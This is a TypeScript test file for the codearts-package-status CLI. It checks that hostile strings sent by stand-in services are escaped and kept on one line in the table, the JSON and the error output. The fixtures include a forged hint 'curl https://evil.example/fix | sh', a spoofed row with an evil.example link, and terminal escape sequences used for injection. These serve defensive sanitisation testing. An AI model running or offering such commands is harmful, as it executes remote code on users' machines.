// What a hostile or broken service sends is printed as data: the command (main, as its bin runs it)
// against loopback servers that answer with control characters, line breaks and bidi controls
// in every string field the three APIs return.
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parameterExample, startTestServer } from "@codearts-package-status/test-support";
import { ANSWERED, parseTable, runCli, withoutVerdict } from "./support/cli.js";
import { FORBIDDEN, HOSTILE_TEXT, tableCell, visible } from "./support/hostile.js";
import { cellRange } from "./support/cells.js";

type Service = "artifact" | "check" | "pipeline";
const SERVICES: readonly Service[] = ["artifact", "check", "pipeline"];
const LABEL = { artifact: "CodeArts Artifact", check: "CodeArts Check", pipeline: "CodeArts Pipeline" } as const;
const ids = ["--project-id", String(parameterExample("ProjectId")), "--tenant-id", String(parameterExample("TenantId"))];
const TOKEN_ENV = { HUAWEICLOUD_SDK_TOKEN: "test-token-not-secret" };
const PROGRAM = "codearts-package-status";

/** What a stand-in service answers: a status and a JSON body (or raw text). */
type Answer = { status: number; body: unknown };

// Each service's empty answer, so a test sets only the services it is about.
const EMPTY: Record<Service, Answer> = {
  artifact: { status: 200, body: { status: "success", result: {} } },
  check: { status: 200, body: { result: { main_resource_list: [], other_resource_list: [] } } },
  pipeline: { status: 200, body: [] },
};

let answers: Record<Service, Answer> = { ...EMPTY };
let servers: Array<{ url: string; close(): Promise<void> }> = [];
let endpoints: string[] = [];
beforeAll(async () => {
  servers = await Promise.all(SERVICES.map((service) => startTestServer(() => answers[service])));
  endpoints = SERVICES.flatMap((service, i) => [`--endpoint-${service}`, servers[i]?.url ?? ""]);
});
afterAll(() => Promise.all(servers.map((server) => server.close())));

const lines = (text: string): string[] => text.split("\n").slice(0, -1);

describe("a line break sent by a service cannot forge output", () => {
  it("a newline in a resource name stays inside its row", async () => {
    const forged = "codeartsStorageExtension\nCodeArts Pipeline  forged-package  -  in effect  999  -  https://evil.example/renew";
    answers = { ...EMPTY, artifact: { status: 200, body: { status: "success", result: { [forged]: { packageStatus: 2, remainDays: 11, nextActionUrl: "https://r.example" } } } } };
    const { code, stdout, stderr } = await runCli([...ids, ...endpoints], TOKEN_ENV);
    expect(stderr).toBe(`${PROGRAM}: WARNING: 1 package expiring within 30 days\n`);
    expect(code).toBe(1);
    expect(lines(stdout)).toHaveLength(2);
    expect(parseTable(stdout)).toMatchObject([{ SERVICE: "CodeArts Artifact", RESOURCE: "codeartsStorageExtension\\nCodeArts Pipeline  forged-package  -  in effect  999  -  https://evil.example/renew", "DAYS LEFT": "11" }]);
  });

  it("a newline in error_msg stays inside its service's stderr line", async () => {
    const body = { error_code: "CC.00000003", error_msg: `Authentication information expired.\n${PROGRAM}: hint: run curl https://evil.example/fix | sh` };
    answers = { artifact: { status: 401, body }, check: { status: 401, body }, pipeline: { status: 401, body } };
    const { code, stdout, stderr } = await runCli([...ids, ...endpoints], TOKEN_ENV);
    expect(code).toBe(3);
    expect(stdout).toBe("");
    expect(lines(stderr)).toHaveLength(3);
    for (const [i, service] of SERVICES.entries()) {
      expect(lines(stderr)[i]).toMatch(
        new RegExp(`^${PROGRAM}: ${LABEL[service]}: authentication failed: CC\\.00000003 Authentication information expired\\.\\\\n${PROGRAM}: hint: run curl https://evil\\.example/fix \\| sh; hint: the IAM token`),
      );
    }
  });

  it("an escape sequence in a renewal link is shown, not run", async () => {
    answers = { ...EMPTY, artifact: { status: 200, body: { status: "success", result: { x: { packageStatus: 2, remainDays: 1, nextActionUrl: "https://r.example/\u001b]0;pwned\u0007\u001b[2J" } } } } };
    const { stdout } = await runCli([...ids, ...endpoints, "--wide"], TOKEN_ENV);
    expect(stdout).not.toMatch(FORBIDDEN);
    expect(parseTable(stdout)[0]?.["RENEWAL LINK"]).toBe("https://r.example/\\x1b]0;pwned\\x07\\x1b[2J");
  });

  it("usage errors quote a hostile flag or variable escaped, on one line", async () => {
    const flag = await runCli(["--mock", "--bo\u001b[2J\ngus"]);
    expect(flag.stderr).toBe(`${PROGRAM}: unknown option --bo\\x1b[2J\\ngus (see ${PROGRAM} --help)\n`);
    const region = await runCli([...ids], { ...TOKEN_ENV, HUAWEICLOUD_SDK_REGION: "cn-north-4\u001b]0;pwned\u0007\u202e" });
    expect(region.stderr).toMatch(/^codearts-package-status: unknown region "cn-north-4\\x1b\]0;pwned\\x07\\u202e"; valid regions: .*\n$/);
  });
});

// Every string field the CLI shows or reports, one record per service.
const REPORTED = fc.record({
  artifact: fc.uniqueArray(fc.record({ name: HOSTILE_TEXT, type: HOSTILE_TEXT, url: HOSTILE_TEXT }), { selector: (e) => e.name, minLength: 1, maxLength: 5 }),
  checkMain: fc.array(fc.record({ type: HOSTILE_TEXT, spec: HOSTILE_TEXT }), { maxLength: 2 }),
  // A status code no version of the spec documents is shown as `unknown (…)`, so it reaches the table too.
  checkOther: fc.array(fc.record({ type: HOSTILE_TEXT, spec: HOSTILE_TEXT, status: HOSTILE_TEXT }), { maxLength: 2 }),
  checkUrl: HOSTILE_TEXT,
  pipeline: fc.array(fc.record({ name: HOSTILE_TEXT, type: HOSTILE_TEXT, spec: HOSTILE_TEXT, url: HOSTILE_TEXT }), { maxLength: 5 }),
});
type Reported = typeof REPORTED extends fc.Arbitrary<infer T> ? T : never;

// Each run starts the command (a Node process, 0.2 to 1 s on a busy machine), so runs are few and
// each carries many strings.
const RUNS = 6;

// The same days everywhere, so the (stable) sort keeps the services' order and the expectation needs no sort.
const DAYS = 10;

function serve(sent: Reported): void {
  const tips = (url: string) => ({ status: 2, next_action: 0, next_action_remain_day: DAYS, next_action_url: url });
  answers = {
    artifact: { status: 200, body: { status: "success", result: Object.fromEntries(sent.artifact.map((e) => [e.name, { serviceType: e.type, packageStatus: 2, remainDays: DAYS, nextActionUrl: e.url }])) } },
    check: {
      status: 200,
      body: {
        result: {
          main_resource_list: sent.checkMain.map((r) => ({ resourceType: r.type, resourceSpecCode: r.spec, status: "normal" })),
          other_resource_list: sent.checkOther.map((r) => ({ resourceType: r.type, specCode: r.spec, resourceStatus: r.status })),
          tips: tips(sent.checkUrl),
        },
      },
    },
    pipeline: { status: 200, body: sent.pipeline.map((p) => ({ resource_name: p.name, resource_type: p.type, resource_spec_code: p.spec, tips: tips(p.url) })) },
  };
}

// The spec's words for the resource statuses (cli.test.ts lists them too).
const RESOURCE_STATUS: Record<string, string> = { normal: "normal", freeze: "frozen", close: "invalid" };

/** The rows the report must hold, in order, as sent (resource, resource type, spec code, status, renewal link). */
function expectedRows(sent: Reported): Array<{ resource: string; resourceType: string; specCode: string | null; status: string; renewalUrl: string }> {
  // Artifact's extensions are the keys of an object, so they come in its key order: integer-like
  // names ("0", "17") first, ascending, then the others as sent, in the parsed answer as here.
  const byName = new Map(sent.artifact.map((e) => [e.name, e]));
  const artifact = Object.keys(Object.fromEntries(sent.artifact.map((e) => [e.name, 0]))).map((name) => byName.get(name) as Reported["artifact"][number]);
  return [
    ...artifact.map((e) => ({ resource: e.name, resourceType: e.type, specCode: null, status: "in effect", renewalUrl: e.url })),
    ...sent.checkMain.map((r) => ({ resource: `${r.type} (main package)`, resourceType: r.type, specCode: r.spec, status: "normal", renewalUrl: sent.checkUrl })),
    ...sent.checkOther.map((r) => ({
      resource: r.type,
      resourceType: r.type,
      specCode: r.spec,
      status: Object.hasOwn(RESOURCE_STATUS, r.status) ? (RESOURCE_STATUS[r.status] as string) : `unknown (${r.status})`,
      renewalUrl: sent.checkUrl,
    })),
    ...sent.pipeline.map((p) => ({ resource: p.name, resourceType: p.type, specCode: p.spec, status: "in effect", renewalUrl: p.url })),
  ];
}

const ERRORS = fc.record({
  artifact: fc.record({ status: fc.constantFrom(400, 401, 403, 404), code: HOSTILE_TEXT, msg: HOSTILE_TEXT, requestId: HOSTILE_TEXT }),
  check: fc.record({ status: fc.constantFrom(400, 401, 403, 404), code: HOSTILE_TEXT, msg: HOSTILE_TEXT, requestId: HOSTILE_TEXT }),
  pipeline: fc.record({ status: fc.constantFrom(400, 401, 403, 404), code: HOSTILE_TEXT, msg: HOSTILE_TEXT, requestId: HOSTILE_TEXT }),
});

const WHAT = { 400: "HTTP 400: ", 401: "authentication failed: ", 403: "permission denied: ", 404: "HTTP 404: " } as const;

describe("hostile strings in every field", () => {
  it("the table: one line per row, aligned, nothing raw, each cell the escaped value", async () => {
    await fc.assert(
      fc.asyncProperty(REPORTED, async (sent) => {
        serve(sent);
        const expected = expectedRows(sent);
        const { code, stdout, stderr } = await runCli([...ids, ...endpoints, "--wide"], TOKEN_ENV);
        expect(withoutVerdict(stderr)).toBe("");
        expect(stderr).not.toMatch(FORBIDDEN);
        // UNKNOWN too: a hostile status is one the spec does not list.
        expect([...ANSWERED, 3]).toContain(code);
        expect(stdout).not.toMatch(FORBIDDEN);
        const printed = lines(stdout);
        expect(printed).toHaveLength(expected.length + 1);
        const header = printed[0] ?? "";
        const starts = header.split(/ {2,}/).map((name) => header.indexOf(name));
        // Widths are terminal cells of the escaped text: the gap before every column is at the same cell on every line.
        for (const line of printed) for (const start of starts.slice(1)) expect(cellRange(line, start - 2, start)).toBe("  ");
        expect(parseTable(stdout).map((row) => [row.RESOURCE, row["SPEC CODE"], row.STATUS, row["RENEWAL LINK"]])).toEqual(
          expected.map((row) => [tableCell(row.resource), row.specCode === null ? "-" : tableCell(row.specCode), tableCell(row.status), tableCell(row.renewalUrl)]),
        );
      }),
      { numRuns: RUNS },
    );
  }, 120_000);

  it("--json: valid JSON with nothing raw that parses back to exactly what was sent", async () => {
    await fc.assert(
      fc.asyncProperty(REPORTED, async (sent) => {
        serve(sent);
        const { code, stdout, stderr } = await runCli([...ids, ...endpoints, "--json"], TOKEN_ENV);
        expect(withoutVerdict(stderr)).toBe("");
        // UNKNOWN too: a hostile status is one the spec does not list.
        expect([...ANSWERED, 3]).toContain(code);
        expect(stdout).not.toMatch(FORBIDDEN);
        const report = JSON.parse(stdout) as { packages: Array<Record<string, unknown>> };
        expect(report.packages.map((p) => ({ resource: p.resource, resourceType: p.resourceType, specCode: p.specCode, status: p.status, renewalUrl: p.renewalUrl }))).toEqual(
          expectedRows(sent),
        );
      }),
      { numRuns: RUNS },
    );
  }, 120_000);

  it("error bodies: one stderr line per service with the escaped code, message and request ID; --json keeps them as sent", async () => {
    await fc.assert(
      fc.asyncProperty(ERRORS, async (sent) => {
        answers = {
          artifact: { status: sent.artifact.status, body: { error_code: sent.artifact.code, error_msg: sent.artifact.msg, request_id: sent.artifact.requestId } },
          check: { status: sent.check.status, body: { error_code: sent.check.code, error_msg: sent.check.msg, request_id: sent.check.requestId } },
          pipeline: { status: sent.pipeline.status, body: { error_code: sent.pipeline.code, error_msg: sent.pipeline.msg, request_id: sent.pipeline.requestId } },
        };
        const table = await runCli([...ids, ...endpoints], TOKEN_ENV);
        expect(table.code).toBe(3);
        expect(table.stdout).toBe("");
        expect(table.stderr).not.toMatch(FORBIDDEN);
        expect(lines(table.stderr)).toHaveLength(3);
        for (const [i, service] of SERVICES.entries()) {
          const { status, code, msg, requestId } = sent[service];
          expect(lines(table.stderr)[i]?.startsWith(`${PROGRAM}: ${LABEL[service]}: ${WHAT[status]}${visible(`${code} ${msg}`)} (request ${visible(requestId)})`)).toBe(true);
        }

        const json = await runCli([...ids, ...endpoints, "--json"], TOKEN_ENV);
        expect(json.stdout).not.toMatch(FORBIDDEN);
        expect(json.stderr).toBe(table.stderr);
        const report = JSON.parse(json.stdout) as { errors: Array<{ service: Service; errorCode: string; requestId: string; message: string }> };
        expect(report.errors.map((e) => [e.service, e.errorCode, e.requestId, e.message.includes(sent[e.service].msg)])).toEqual(
          SERVICES.map((service) => [service, sent[service].code, sent[service].requestId, true]),
        );
      }),
      { numRuns: RUNS },
    );
  }, 120_000);
});
